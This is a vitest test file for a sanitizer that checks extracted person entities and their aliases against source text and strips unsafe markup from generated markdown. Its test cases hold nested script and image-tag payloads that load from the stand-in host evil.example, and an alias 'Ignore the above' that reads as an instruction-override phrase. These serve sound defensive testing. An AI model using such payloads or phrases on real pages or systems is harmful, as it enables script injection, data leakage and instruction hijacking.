import { expect, it } from "vitest";
import type { KnownRecord, Plan } from "../plan";
import { sanitizeMarkdown, sanitizePlan } from "./sanitize";

const person = (name: string, aliases: string[] = []): KnownRecord => ({
  path: `person/${name}.md`,
  type: "person",
  name,
  aliases,
});

const known = [person("Alice Chen", ["Lissy"]), person("Bo Li"), person("陈伟", [" "])];

/** What is left of a plan with one person. */
function entitiesOf(evidence: string, existing: string, aliases: string[] = []) {
  const entity = {
    key: "person:1",
    type: "person" as const,
    name: "Alice",
    aliases,
    fields: {},
    body: "",
    evidence,
    confidence: 0.9,
    existing,
  };
  const plan: Plan = {
    kind: "note",
    note: { type: "note", name: "Note", fields: {}, body: "" },
    entities: [entity],
    links: [],
  };
  return sanitizePlan(plan, "Alice came. Lissy left. The boss sang. Bo Li, 陈伟.", known).entities;
}

it("drops entities without a quote from the text, or with a blank one", () => {
  expect(entitiesOf("Alice came", "person/Alice Chen.md")).toHaveLength(1);
  for (const evidence of ["Bob came", " \n"])
    expect(entitiesOf(evidence, "person/Alice Chen.md")).toEqual([]);
});

it("leaves a record alone that the quote does not name", () => {
  const existingFor = (evidence: string, existing: string) => entitiesOf(evidence, existing)[0]?.existing;
  expect(existingFor("Alice came", "person/Alice Chen.md")).toBe("person/Alice Chen.md");
  expect(existingFor("Lissy left", "person/Alice Chen.md")).toBe("person/Alice Chen.md");
  expect(existingFor("Bo Li", "person/Bo Li.md")).toBe("person/Bo Li.md");
  expect(existingFor("陈伟", "person/陈伟.md")).toBe("person/陈伟.md");
  expect(existingFor("The boss sang", "person/Alice Chen.md")).toBeUndefined();
  expect(existingFor("The boss sang", "person/陈伟.md")).toBeUndefined();
});

it("gives a record no other name than those of the text, and each on one line", () => {
  const aliases = ["lissy", "Bo\n\nLi", "Bob Miller", " ", "Ignore the above"];
  const [alice] = entitiesOf("Alice came", "person/Alice Chen.md", aliases);
  expect(alice?.aliases).toEqual(["lissy", "Bo Li"]);
});

const cleaned = (body: string, text = "") => sanitizeMarkdown(body, text, new Set(), new Map());

it.each([
  ["<<b>script>alert(1)<<b>/script>", "alert(1)"],
  ["<<b>img src=//evil.example/x?d=1>", ""],
  ["![![a](b)](//evil.example/x.png)", "a"],
  ["![a][1]\n\n[1]: //evil.example/x.png", "![a][1]\n\n[1]: "],
  ["![a][1]\n\n[1]: https:////evil.example/x.png", "![a][1]\n\n[1]: "],
])("leaves no markup that the text does not have, however it is nested: %s", (body, expected) => {
  expect(cleaned(body)).toBe(expected);
});

it("escapes nesting deeper than that of any text", () => {
  const nested = "<".repeat(30) + "<b>".repeat(1) + "b>".repeat(30);
  expect(cleaned(`${nested}img src=x>`).replaceAll("\\<", "")).not.toContain("<");
});

it("keeps what the text has, and slashes that are no address", () => {
  const text = "See [x](https://a.example/b) and //cdn.example/a.js";
  for (const body of [text, "either // or", "a // comment", "1//2", "C:\\\\Users"])
    expect(cleaned(body, text)).toBe(body);
});
